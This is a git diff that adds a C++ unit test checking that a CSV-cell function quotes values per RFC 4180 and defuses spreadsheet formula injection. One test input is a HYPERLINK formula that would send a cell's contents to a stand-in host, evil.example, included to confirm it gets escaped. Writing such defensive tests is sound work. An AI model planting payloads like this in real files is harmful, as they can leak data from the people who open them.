@@ -6,6 +6,7 @@
 #include <set>
 
 #include "mtm/snapshot.hpp"
+#include "trm/csv.hpp"
 #include "trm_fixture.hpp"
 
 using trmtest::Harness;
@@ -391,4 +392,17 @@ TEST_CASE("the access matrix shows my people across customers, explains cells an
     CHECK(refused.body["missing"] == "roles.view");
     CHECK(h.call("GET", "/api/v1/access-matrix", "").status == 401);
     (void)nat;
+}
+
+TEST_CASE("CSV cells quote per RFC 4180 and never start a formula", "[trm][csv]") {
+    CHECK(trm::csv_cell("Oslo 4.12") == "Oslo 4.12");
+    CHECK(trm::csv_cell("Lobby, east") == "\"Lobby, east\"");
+    CHECK(trm::csv_cell("say \"hi\"") == "\"say \"\"hi\"\"\"");
+    CHECK(trm::csv_cell("two\nlines") == "\"two\nlines\"");
+    for (const char* formula : {"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"})
+        CHECK(trm::csv_cell(formula).find(std::string("'") + formula) <= 1);
+    CHECK(trm::csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")") ==
+          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
+    CHECK(trm::csv_cell("a=b") == "a=b");  // only the first character makes a formula
+    CHECK(trm::csv_cell("") == "");
 }
